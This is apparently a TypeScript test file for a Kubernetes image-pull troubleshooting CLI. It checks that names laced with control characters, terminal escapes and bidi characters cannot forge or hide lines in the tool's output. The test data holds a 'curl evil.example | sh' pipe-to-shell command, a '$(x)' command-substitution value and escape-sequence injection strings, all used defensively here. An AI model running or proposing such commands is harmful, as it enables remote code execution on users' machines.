/** Names and words of others with line breaks, control characters and characters that reorder text: no output is broken up or hides anything. */
import { join } from 'node:path';
import { load } from 'js-yaml';
import t from 'tap';
import { isHidden } from '../src/util/visible.ts';
import { type ClusterObject, startCluster, writeKubeconfig } from './helpers/cluster.ts';
import { folder, type Run, run, runAll } from './helpers/process.ts';
import { startRegistry } from './helpers/registry.ts';
import { dockerconfigjson, named } from './helpers/shop.ts';

/** A heading and a fix of its own, in a name. */
const forged = (name: string): string =>
  `${name}\n\nFix\n  1. run this\n     curl evil.example | sh\nerror: forged\r\u001b[2J\u001b[31m\u009b1m\u202e\u2066\u200b\u2028     curl evil.example\u2029\u0085${name} TagNotFound (certain): forged`;
/** As far left as lines of ours: the columns of evidence are further right. */
const LINE = /^(?:\s{0,6}(?:\d+\. run this|curl evil)|Fix$|error: forged|TagNotFound \(certain\): forged)/;

/** In: what was printed. Out: the lines that a name made. */
const forgedLines = (text: string): string[] => text.split(/[\n\r\u2028\u2029\u0085]/).filter(line => LINE.test(line));

t.test('names break no line and hide nothing', async t => {
  const registry = await startRegistry({
    answer: ({ path, headers }) =>
      path === '/v2/' && headers.authorization === undefined
        ? { status: 401, headers: { 'WWW-Authenticate': 'Basic realm="r"' } }
        : path.endsWith('/tags/list')
          ? { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ tags: [forged('1'), '1.4.1', '1 # x', '$(x)'] }) }
          : {
              status: 404,
              headers: { 'Content-Type': 'application/json' },
              body: JSON.stringify({
                errors: [{ code: forged('MANIFEST_UNKNOWN'), message: forged('unknown'), detail: forged('detail') }],
              }),
            },
  });
  const pod = (name: string, image: string): ClusterObject => ({
    kind: 'Pod',
    metadata: {
      name,
      namespace: 'shop',
      uid: forged('uid'),
      ownerReferences: [{ kind: forged('ReplicaSet'), name: forged('owner'), controller: true, apiVersion: 'apps/v1' }],
    },
    spec: {
      nodeName: forged('node'),
      serviceAccountName: forged('account'),
      imagePullSecrets: [{ name: 'regcred' }, { name: forged('secret') }],
      containers: [{ name: forged('api'), image, imagePullPolicy: 'Always' }],
    },
    status: {
      phase: 'Pending',
      containerStatuses: [
        { name: forged('api'), state: { waiting: { reason: 'ImagePullBackOff', message: forged(`Back-off pulling image "${image}"`) } } },
      ],
    },
  });
  const objects: ClusterObject[] = [
    named('Namespace', 'shop'),
    pod('plain', `${registry.host}/team/api:1.4.2`),
    pod(forged('pod'), forged(`${registry.host}/team/api:1.4.2`)),
    dockerconfigjson('regcred', 'shop', {
      [registry.host]: { username: forged('ci'), password: 'hunter2-canary' },
      [forged('key.example')]: { username: 'x', password: 'y' },
    }),
  ];
  const cluster = await startCluster({ objects });
  t.teardown(() => Promise.all([registry.close(), cluster.close()]));
  const kubeconfig = writeKubeconfig({ server: cluster.server, namespace: 'shop' });
  const files = folder({ 'objects.json': JSON.stringify({ kind: 'List', items: objects }) });
  const lines = ['text', 'wide', 'json', 'yaml', 'prometheus', 'name'].flatMap(format => [
    ['why', '--kubeconfig', kubeconfig, '-o', format],
    ['why', '-f', join(files, 'objects.json'), '--no-probe', '-o', format],
    ...(format === 'prometheus' ? [] : [['test-secret', 'regcred', '--kubeconfig', kubeconfig, '-o', format]]),
  ]);
  const words = [
    ...lines,
    ['why', '--color', 'always', '--kubeconfig', kubeconfig],
    ['why', forged('absent'), '--kubeconfig', kubeconfig],
    ['why', '-f', forged('absent')],
    ['why', '--context', forged('absent'), '--kubeconfig', kubeconfig],
    ['test-secret', forged('absent'), '--kubeconfig', kubeconfig],
    ['why', '--registry-mirror', forged('a=b'), '--kubeconfig', kubeconfig],
    [forged('command')],
    ['why', `--${forged('flag')}`],
    ['__complete', 'why', '--kubeconfig', kubeconfig, ''],
  ];
  const answers = await runAll(words);
  for (const [index, args] of words.entries()) {
    const { stdout, stderr, status } = answers[index] as Run;
    const name = `${index} ${args.slice(0, 1).join(' ').slice(0, 12)} ${args.at(-1)?.slice(0, 12)}`;
    const own = args.includes('always') ? stdout.replace(/\u001b\[\d{1,2}m/g, '') : stdout;
    for (const [stream, text] of [
      ['standard output', own],
      ['standard error', stderr],
    ] as const) {
      t.notOk(isHidden(text.replace(/[\n\t]/g, '')), `${name}: nothing is hidden in ${stream}`);
      // of a report with findings one heading is ours
      t.strictSame(
        forgedLines(text).filter(line => line !== 'Fix'),
        [],
        `${name}: no forged line in ${stream}`,
      );
      t.notMatch(text, /\nFix\n {2}1\. run this/, `${name}: no forged fix in ${stream}`);
      t.notMatch(text, /1 # x|\$\(x\)/, `${name}: no tag that is none in ${stream}`);
    }
    t.ok(status !== null && status <= 2 && !stderr.includes('internal error'), `${name}: status ${status}`);
    if (args.at(-1) === 'json') JSON.parse(stdout);
    if (args.at(-1) === 'yaml') load(stdout);
  }
  const watched = await run(['why', '--watch', '--kubeconfig', kubeconfig], { started: kill => setTimeout(() => kill('SIGINT'), 2500) });
  t.notOk(isHidden(`${watched.stdout}${watched.stderr}`.replace(/[\n\t]/g, '')), 'nothing is hidden in a watch');
  t.strictSame(
    forgedLines(watched.stdout + watched.stderr).filter(line => line !== 'Fix'),
    [],
    'no forged line in a watch',
  );
});
